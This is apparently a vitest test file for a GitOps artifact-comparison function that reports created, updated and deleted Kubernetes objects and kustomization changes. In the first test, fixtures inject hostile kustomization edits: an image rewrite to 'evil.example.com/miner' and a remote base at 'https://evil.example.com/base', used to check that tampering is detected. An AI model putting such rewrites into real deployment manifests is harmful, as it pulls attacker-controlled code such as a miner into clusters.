import { describe, expect, it } from "vitest";
import { folderFiles } from "../../../gitops/index.ts";
import type { KubernetesObject } from "../../../render/index.ts";
import { compareArtifacts } from "./compare-artifacts.ts";
import { readManifests } from "./manifests.ts";

const map = (name: string, value = "1") =>
  ({ apiVersion: "v1", kind: "ConfigMap", metadata: { name, namespace: "e" }, data: { x: value } }) as KubernetesObject;
const files = (...objects: readonly KubernetesObject[]) => folderFiles(objects, { owner: "stack p/s" });

type Files = Awaited<ReturnType<typeof files>>;
const changes = async (before: Files, after: Files) => {
  const [old, now] = [
    { files: before, manifests: await readManifests(before) },
    { files: after, manifests: await readManifests(after) },
  ];
  return compareArtifacts(old, now).changes;
};
const edited = (all: Files, name: string, edit: (content: string) => string) =>
  all.map((file) => (file.name === name ? { name, content: edit(file.content) } : file));

describe("what another archive changes", () => {
  it("is told by the kustomization where the objects are the same and it makes others of them", async () => {
    const rendered = await files(map("a"), map("b"));
    const images = "images:\n  - name: registry.example.com/iotedged\n    newName: evil.example.com/miner\n";
    const hostile = edited(rendered, "kustomization.yaml", (content) => `${content}${images}`);
    expect(await changes(hostile, rendered)).toEqual([
      { operation: "update", object: "kustomization.yaml", fields: ["images: removed"] },
    ]);
    // Also beside an object that comes, which explains no more than a name in it.
    expect(await changes(hostile, await files(map("a"), map("b"), map("c")))).toMatchObject([
      { operation: "create", object: "v1/ConfigMap e/c" },
      { operation: "update", object: "kustomization.yaml" },
    ]);
    const remote = edited(rendered, "kustomization.yaml", (content) => `${content}  - https://evil.example.com/base\n`);
    expect(await changes(remote, rendered)).toMatchObject([{ object: "kustomization.yaml" }]);
    const plain = edited(rendered, "kustomization.yaml", (content) => content.replace(/apiVersion.*\n/, ""));
    expect(await changes(plain, rendered)).toMatchObject([{ object: "kustomization.yaml" }]);
  });

  it("is told by files that are no manifests, or say the same in another way", async () => {
    const rendered = await files(map("a"));
    const [name = ""] = rendered.map((file) => file.name);
    expect(await changes([...rendered, { name: "Kustomization", content: "images: []\n" }], rendered)).toEqual([
      { operation: "delete", object: "Kustomization", fields: [] },
    ]);
    expect(
      await changes(
        edited(rendered, name, (content) => `${content}# more\n`),
        rendered,
      ),
    ).toEqual([{ operation: "update", object: name, fields: ["content: changed"] }]);
    expect(await changes(rendered.slice(0, -1), rendered)).toEqual([
      { operation: "create", object: "kustomization.yaml", fields: [] },
    ]);
  });

  it("is told by the objects alone where they explain it, and is never nothing", async () => {
    const rendered = await files(map("a"), map("b"));
    expect(await changes(await files(map("a", "0"), map("gone")), rendered)).toEqual([
      { operation: "update", object: "v1/ConfigMap e/a", fields: ["data.x: 0 -> 1"] },
      { operation: "create", object: "v1/ConfigMap e/b", fields: [] },
      { operation: "delete", object: "v1/ConfigMap e/gone", fields: [] },
    ]);
    expect(await changes(rendered, rendered)).toMatchObject([{ object: "archive of the artifact" }]);
  });
});
